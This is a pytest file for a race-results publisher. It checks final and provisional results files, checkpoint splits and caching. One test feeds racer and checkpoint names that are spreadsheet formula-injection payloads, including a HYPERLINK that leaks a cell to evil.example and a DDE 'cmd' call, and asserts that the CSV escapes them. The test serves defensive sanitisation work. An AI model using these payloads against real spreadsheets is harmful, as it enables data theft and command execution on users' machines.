"""The race after the race: results.json, results.csv and results.html, with
splits at the checkpoints, written by the publisher as a real run would."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta
from pathlib import Path

import pytest

from racepub import config
from racepub.publisher.cycle import Publisher
from tests.helpers import (
    COLS,
    create_points_table,
    fixes,
    insert_points,
    now_utc,
    write_race,
)

SPEEDS = {"1001": 3.4, "1002": 3.1, "2001": 2.0}  # the trolley last
CHECKPOINTS = """
    [[races.t.checkpoints]]
    name = "Babcock Street"
    distance_m = 700

    [[races.t.checkpoints]]
    name = "Pleasant Street"
    distance_m = 1500
"""


def run_race(tmp_path: Path, dsn: str, minutes: float) -> tuple[Publisher, Path, float]:
    create_points_table(dsn)
    setup = write_race(
        tmp_path, dsn, starts_at=now_utc() - timedelta(minutes=minutes), extra=CHECKPOINTS
    )
    until = minutes * 60 - 5
    insert_points(
        dsn,
        "live_points",
        COLS,
        [row for racer, v in SPEEDS.items() for row in fixes(setup, racer, v, min(until, 1300))],
    )
    cfg = config.load(str(setup.path))
    return Publisher(cfg, cfg.race("t")), setup.sink_dir, setup.course.length_m


def test_final_results_agree_and_match_the_truth(tmp_path: Path, dsn: str) -> None:
    pub, out, length = run_race(tmp_path, dsn, minutes=25)
    try:
        pub.cycle()
        assert json.loads((out / "snapshot.json").read_text())["race"]["state"] == "finished"
        rows = list(csv.DictReader(io.StringIO((out / "results.csv").read_text("utf-8-sig"))))
        assert [r["id"] for r in rows] == ["1001", "1002", "2001"]
        assert list(rows[0])[-3:] == ["Babcock Street", "Pleasant Street", "Finish"]
        for r in rows:
            speed = SPEEDS[r["id"]]
            assert float(r["finish_s"]) == pytest.approx(length / speed, abs=2)
            assert r["status"] == "finished" and r["rank"] == str(rows.index(r) + 1)
        # Splits within a couple of seconds of the truth (a fix every 2 s).
        doc = json.loads((out / "results.json").read_text())
        assert doc["final"] is True and doc["schema"] == 1
        for racer in doc["racers"]:
            speed = SPEEDS[racer["id"]]
            at = {s["name"]: s["at_s"] for s in racer["splits"]}
            assert at["Babcock Street"] == pytest.approx(700 / speed, abs=2)
            assert at["Pleasant Street"] == pytest.approx(1500 / speed, abs=2)
            assert at["Finish"] == racer["finish_s"]
        # The three agree.
        assert [r["id"] for r in doc["racers"]] == [r["id"] for r in rows]
        assert [r["finish_s"] for r in doc["racers"]] == [float(r["finish_s"]) for r in rows]
        assert doc["racers"][1]["gap_to_winner_s"] == pytest.approx(
            length / 3.1 - length / 3.4, abs=2
        )
        html = (out / "results.html").read_text()
        assert html.index("Michael") < html.index("Sarah") < html.index("The T")
        assert "provisional results" not in html and "<script" not in html
        assert "Pleasant Street" in html
        assert 'href="results.html">Results</a>' in (out / "index.html").read_text()
        # Final: written again only if they change.
        before = (out / "results.csv").stat().st_mtime_ns
        pub.cycle()
        assert (out / "results.csv").stat().st_mtime_ns == before
    finally:
        pub.close()


def test_results_during_the_race_are_provisional(tmp_path: Path, dsn: str) -> None:
    pub, out, _ = run_race(tmp_path, dsn, minutes=6)  # nobody has finished
    try:
        pub.cycle()
        doc = json.loads((out / "results.json").read_text())
        assert doc["final"] is False
        assert [r["status"] for r in doc["racers"]] == ["racing"] * 3
        assert all(r["finish_s"] is None for r in doc["racers"])
        assert "provisional results" in (out / "results.html").read_text()
        from racepub.model.board import Board
        from racepub.shapes.results import objects as results_objects
        from racepub.shapes.results import results

        made = results(pub.state, Board.of(pub.state, pub.state.moment(pub.clock())), pub.clock())
        caching = {o.key: o.cache_control for o in results_objects(made, pub.env)}
        assert caching["results.csv"] == "public, max-age=60"
        assert caching["results.csv"] != "public, max-age=86400"
    finally:
        pub.close()


# What registrants have put in their names, and a GPX author in a checkpoint's.
HOSTILE_RACERS = r"""
    [[races.t.racers]]
    id = "1001"
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Results")'

    [[races.t.racers]]
    id = "1002"
    name = "+cmd|' /C calc'!A0"

    [[races.t.racers]]
    id = "2001"
    name = "@SUM(1+1)"
    kind = "vehicle"

    [[races.t.racers]]
    id = "3001"
    name = "-2+3"

    [[races.t.racers]]
    id = "3002"
    name = "Ann;=1+1"
"""
HOSTILE_CHECKPOINTS = r"""
    [[races.t.checkpoints]]
    name = "\t=1+1"
    distance_m = 700

    [[races.t.checkpoints]]
    name = "\r@SUM(2)"
    distance_m = 1500
"""


def test_results_csv_opens_every_name_as_text(tmp_path: Path, dsn: str) -> None:
    """Names and checkpoint names that a spreadsheet would run as formulas
    are written as text (a leading quote, quoted cells), however the
    spreadsheet splits the line; the numbers written stay numbers."""
    create_points_table(dsn)
    setup = write_race(
        tmp_path,
        dsn,
        starts_at=now_utc() - timedelta(minutes=25),
        racers=HOSTILE_RACERS,
        extra=HOSTILE_CHECKPOINTS,
    )
    insert_points(
        dsn,
        "live_points",
        COLS,
        [row for racer, v in SPEEDS.items() for row in fixes(setup, racer, v, 1300)],
    )
    cfg = config.load(str(setup.path))
    pub = Publisher(cfg, cfg.race("t"))
    try:
        pub.cycle()
    finally:
        pub.close()
    text = (setup.sink_dir / "results.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    col = {name: k for k, name in enumerate(rows[0])}
    names = {r[col["id"]]: r[col["name"]] for r in rows[1:]}
    assert names == {
        "1001": '\'=HYPERLINK("http://evil.example/?leak="&A1,"Results")',
        "1002": "'+cmd|' /C calc'!A0",
        "2001": "'@SUM(1+1)",
        "3001": "'-2+3",
        "3002": "Ann;'=1+1",
    }
    assert rows[0][-3:] == ["'\t'=1+1", "'\r'@SUM(2)", "Finish"]
    # However a spreadsheet splits the line (',' here, ';' a tab or '|' in
    # other locales, quotes or not), no piece of it starts a formula.
    for piece in re.split(r"[,;\t|\r\n]", text):
        assert not piece.lstrip(' "').startswith(("=", "+", "-", "@")), piece
    # Numbers stay numbers: rank, finish_s and distance_m are written bare.
    winner = text.split("\r\n")[1]  # (a header cell holds a lone CR)
    assert winner.startswith('1,"","1001",')  # no category: no place in one
    finish_s = json.loads((setup.sink_dir / "results.json").read_text())["racers"][0]["finish_s"]
    assert f",{finish_s}," in winner
    assert rows[1][rows[0].index("finish_s")] == str(finish_s)
